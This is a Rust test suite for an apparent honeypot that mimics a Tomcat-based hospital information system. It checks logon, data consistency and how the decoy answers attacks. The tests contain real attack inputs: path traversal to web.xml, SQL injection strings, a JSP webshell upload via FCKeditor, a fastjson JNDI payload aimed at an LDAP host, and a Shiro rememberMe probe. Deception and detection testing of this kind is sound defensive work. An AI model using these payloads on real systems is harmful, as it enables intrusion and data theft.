//! The product on Tomcat: its logon, its services, what is tried on it, and that it says what the
//! portal says and what the world says.

use serde_json::{Value, json};

use super::embedded::Face;
use crate::decoys::http::business::{self, Ask};
use crate::event::Observation;
use crate::session::bench::NOW;
use crate::world::{PatientNo, View};

fn get(path: &str, cookie: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: phis:8080\r\nCookie: {cookie}\r\n\r\n")
}

fn post(path: &str, cookie: &str, kind: &str, body: &str) -> String {
    format!(
        "POST {path} HTTP/1.1\r\nHost: phis:8080\r\nCookie: {cookie}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

fn call(face: &Face, cookie: &str, service: &str, method: &str, body: &Value) -> Value {
    let request = json!({ "serviceId": service, "method": method, "body": body }).to_string();
    let (head, body) = face.ask(&post("/phis/x.jsonRequest", cookie, "application/json", &request));
    assert!(head.starts_with("HTTP/1.1 200 \r\n"), "{head}");
    serde_json::from_slice(&body).expect("JSON")
}

fn session_cookie(head: &str) -> String {
    let line = head.lines().find(|l| l.starts_with("Set-Cookie: JSESSIONID=")).expect("a session cookie");
    line["Set-Cookie: ".len()..].split(';').next().unwrap().to_owned()
}

fn logged_in(face: &Face) -> String {
    let account = face.bench.pack.host("phis").unwrap().accounts[0].clone();
    let body = json!({ "serviceId": "phis.logonService", "method": "logon", "body": { "uid": account.name, "psw": account.password } });
    let (head, body) = face.ask(&post("/phis/logon.jsonRequest", "", "application/json", &body.to_string()));
    assert_eq!(serde_json::from_slice::<Value>(&body).unwrap()["code"], 200);
    session_cookie(&head)
}

fn exploits(face: &Face) -> Vec<String> {
    let of = |e: Observation| match e {
        Observation::ExploitAttempt { weakness, .. } => Some(weakness),
        _ => None,
    };
    face.events().into_iter().filter_map(of).collect()
}

#[test]
fn the_server_is_a_tomcat() {
    let face = Face::of("phis");
    let (head, body) = face.ask(&get("/phis/", ""));
    assert!(head.starts_with("HTTP/1.1 200 \r\nSet-Cookie: JSESSIONID="), "{head}");
    assert!(
        head.contains("; Path=/phis; HttpOnly\r\nContent-Type: text/html;charset=UTF-8\r\nContent-Length: "),
        "{head}"
    );
    assert!(!head.contains("Server:") && String::from_utf8(body).unwrap().contains("用户登录"));
    let (head, body) = face.ask(&get("/nope", ""));
    assert!(
        head.starts_with(
            "HTTP/1.1 404 \r\nContent-Type: text/html;charset=utf-8\r\nContent-Language: en\r\n"
        ),
        "{head}"
    );
    assert!(String::from_utf8(body).unwrap().contains("Apache Tomcat/8.5"));
    assert!(face.ask("GET / HTTP/1.1\r\n\r\n").0.starts_with("HTTP/1.1 400 \r\n"), "a host is needed");
    assert!(face.ask("\x16\x03\x01\x02\r\n\r\n").0.starts_with("HTTP/1.1 400 \r\n"));
    let (head, _) = face.ask(&get("/manager/html", ""));
    assert!(head.starts_with("HTTP/1.1 401 \r\n") && head.contains("Tomcat Manager Application"), "{head}");
}

#[test]
fn requests_may_come_in_any_pieces() {
    let face = Face::of("phis");
    let request = post("/phis/logon.jsonRequest", "", "application/json", "{\"serviceId\":\"x\"}");
    let whole = face.send(&[request.as_bytes()]).0;
    let date = |answer: &[u8]| String::from_utf8_lossy(answer).into_owned();
    for at in 1..request.len() {
        let (first, second) = request.as_bytes().split_at(at);
        assert_eq!(date(&face.send(&[first, second]).0), date(&whole), "split at {at}");
    }
}

#[test]
fn nothing_is_shown_without_a_logon() {
    let face = Face::of("phis");
    let answer = call(&face, "", "phis.clinicManageService", "queryRegisterList", &json!({}));
    assert_eq!(answer["code"], 403);
    assert!(face.ask(&get("/phis/main.html", "")).0.starts_with("HTTP/1.1 302 \r\n"));
    let wrong = call(&face, "", "phis.logonService", "logon", &json!({ "uid": "system", "psw": "123456" }));
    assert_eq!(wrong["code"], 404);
    assert!(face.events().iter().any(|e| matches!(e, Observation::AuthAttempt { accepted: false, .. })));
    assert_eq!(call(&face, &logged_in(&face), "phis.logonService", "currentUser", &json!({}))["code"], 200);
}

/// The portal's rows of a sheet, by the columns' keys.
fn portal_rows(face: &Face, cookie: &str, path: &str, form: &str) -> Vec<Value> {
    let request = format!(
        "POST /his/{path}/list HTTP/1.1\r\nHost: his\r\nCookie: {cookie}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{form}",
        form.len()
    );
    let (head, body) = face.ask(&request);
    assert!(head.starts_with("HTTP/1.1 200 \r\n"), "{head}");
    let answer: Value = serde_json::from_slice(&body).unwrap();
    answer["rows"].as_array().unwrap().clone()
}

fn portal_login(face: &Face) -> String {
    let password = face.bench.pack.host("his").unwrap().accounts[0].password.replace('@', "%40");
    let form = format!("username=hisadmin&password={password}");
    let (head, _) = face.ask(&format!(
        "POST /his/login HTTP/1.1\r\nHost: his\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{form}",
        form.len()
    ));
    session_cookie(&head)
}

#[test]
fn both_products_say_the_same_in_every_field() {
    let (his, phis) = (Face::of("his"), Face::of("phis"));
    let (portal, other) = (portal_login(&his), logged_in(&phis));
    let view = phis.bench.world.at(NOW.parse().unwrap());
    let stay = view.inpatients().into_iter().find(|s| view.charges_in(&s.number).len() > 40).unwrap();
    for sheet in business::sheets() {
        let visit = if sheet.ask == Ask::Visit { stay.number.as_str() } else { "" };
        let here = portal_rows(&his, &portal, sheet.path, &format!("visitNo={visit}&page=1&rows=15"));
        let service = crate::decoys::http::phis::service_of(sheet);
        let asked = json!({ "visitNo": visit, "pageNo": 1, "pageSize": 15 });
        let answer = call(&phis, &other, service, sheet.method, &asked);
        let there = answer["body"].as_array().expect("rows");
        assert_eq!(here.len(), there.len(), "{}", sheet.path);
        for (a, b) in here.iter().zip(there) {
            for column in sheet.columns {
                assert_eq!(a[column.key], b[column.field], "{} {}", sheet.path, column.title);
            }
        }
    }
}

#[test]
fn what_is_shown_is_the_worlds() {
    let face = Face::of("phis");
    let cookie = logged_in(&face);
    let view = face.bench.world.at(NOW.parse().unwrap());
    let stays = view.inpatients();
    for stay in stays.iter().step_by(211) {
        same_person(&view, &face, &cookie, stay.patient, &stay.number);
    }
    let stay = &stays[7];
    let rows = call(
        &face,
        &cookie,
        "phis.chargesManageService",
        "queryFeeDetail",
        &json!({ "visitNo": stay.number, "pageSize": 500 }),
    );
    let charges = view.charges_in(&stay.number);
    let rows = rows["body"].as_array().unwrap();
    assert_eq!(rows.len(), charges.len().min(500));
    for (row, charge) in rows.iter().zip(&charges) {
        assert_eq!(row["JLXH"], charge.number.as_str());
        assert_eq!(row["FYMC"], charge.name.as_str());
        let amount = row["ZJJE"].as_f64().unwrap() * 100.0;
        assert!((amount - charge.amount.0 as f64).abs() < 0.5);
    }
}

fn same_person(view: &View, face: &Face, cookie: &str, no: PatientNo, number: &str) {
    let answer =
        call(face, cookie, "phis.wardManageService", "queryInpatientList", &json!({ "keyword": number }));
    let row = &answer["body"][0];
    let (patient, encounter) = (view.patient(no).unwrap(), view.encounter(number).unwrap());
    assert_eq!(row["MZHM"], patient.mrn.as_str());
    assert_eq!(row["BRXM"], patient.name.chinese().as_str());
    assert_eq!(row["ZYHM"], encounter.number.as_str());
    assert_eq!(row["BRCH"], encounter.bed.unwrap().as_str());
    assert_eq!(row["RYZD"], encounter.diagnosis.name.as_str());
    assert_eq!(row["BRKS"], view.department(&encounter.department).unwrap().name.as_str());
    assert_eq!(row["ZZYS"], view.staff_member(&encounter.physician).unwrap().name.chinese().as_str());
}

#[test]
fn a_template_name_leads_to_files_with_a_lure() {
    let face = Face::of("phis");
    for place in ["/common/templateFile", "/phis/common/templateFile"] {
        let (head, body) = face.ask(&get(&format!("{place}?template_name=../../WEB-INF/web.xml"), ""));
        let text = String::from_utf8(body).unwrap();
        assert!(head.starts_with("HTTP/1.1 200 \r\n") && text.contains("jdbc.password"), "{text}");
        let accounts = &face.bench.pack.host("phis").unwrap().accounts;
        assert!(accounts.iter().any(|account| text.contains(&account.password)));
    }
    assert!(
        face.ask(&get("/common/templateFile?template_name=a.doc", "")).0.starts_with("HTTP/1.1 500 \r\n")
    );
    assert!(exploits(&face).iter().any(|w| w == "dhc-oa-file-read"));
}

#[test]
fn statements_are_answered_as_mysql_would() {
    let face = Face::of("phis");
    let cookie = logged_in(&face);
    let ask = |word: &str| {
        call(&face, &cookie, "phis.pharmacyManageService", "queryDrugDictionary", &json!({ "keyword": word }))
    };
    let (plain, all) = (ask("头孢"), ask("头孢' or '1'='1"));
    assert!(plain["totalCount"].as_u64().unwrap() < all["totalCount"].as_u64().unwrap());
    assert_eq!(ask("头孢' and '1'='1")["totalCount"], plain["totalCount"]);
    assert_eq!(ask("头孢' and '1'='2")["totalCount"], 0);
    let text = |word: &str| ask(word)["msg"].as_str().unwrap().to_owned();
    assert!(text("'").contains("You have an error in your SQL syntax"));
    assert!(text("' and extractvalue(1,concat(0x7e,version()))-- ").contains("XPATH syntax error: '~5.7."));
    assert!(text("' union select 1,2,3-- ").contains("different number of columns"));
    assert_eq!(ask("' and sleep(9999)-- ")["totalCount"], 0);
    assert!(exploits(&face).iter().any(|w| w == "sql-injection"));
}

#[test]
fn what_is_uploaded_is_kept_and_never_run() {
    let face = Face::of("phis");
    let body = "--b\r\nContent-Disposition: form-data; name=\"NewFile\"; filename=\"a.jsp\"\r\n\r\n<%Runtime.getRuntime();%>\r\n--b--\r\n";
    let path = "/phis/fckeditor/editor/filemanager/connectors/jsp/connector?Command=FileUpload&Type=File&CurrentFolder=/";
    let (_, answer) = face.ask(&post(path, "", "multipart/form-data; boundary=b", body));
    assert!(String::from_utf8(answer).unwrap().contains("OnUploadCompleted(0,'/phis/userfiles/file/a.jsp'"));
    let (head, page) = face.ask(&get("/phis/userfiles/file/a.jsp?cmd=id", ""));
    assert!(head.starts_with("HTTP/1.1 200 \r\n") && page.starts_with(b"uid="), "{head}");
    assert!(face.ask(&get("/phis/userfiles/file/a.jsp?cmd=ls", "")).1.is_empty());
    assert!(face.ask(&get("/phis/userfiles/file/b.jsp", "")).0.starts_with("HTTP/1.1 404"));
    let seen = exploits(&face);
    assert!(
        ["webshell-upload", "webshell-use", "fckeditor-upload"].iter().all(|w| seen.iter().any(|s| s == w)),
        "{seen:?}"
    );
}

#[test]
fn a_class_by_name_and_a_cookie_are_answered_and_recorded() {
    let face = Face::of("phis");
    let body = "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://192.0.2.1/x\",\"autoCommit\":true}";
    let (_, answer) = face.ask(&post("/phis/x.jsonRequest", "", "application/json", body));
    assert!(String::from_utf8(answer).unwrap().contains("set property error, autoCommit"));
    let (head, _) = face.ask(&get("/phis/", &format!("rememberMe={}", "A".repeat(300))));
    assert!(head.contains("Set-Cookie: rememberMe=deleteMe"), "{head}");
    let seen = exploits(&face);
    assert!(["fastjson-autotype", "CVE-2016-4437"].iter().all(|w| seen.iter().any(|s| s == w)), "{seen:?}");
}
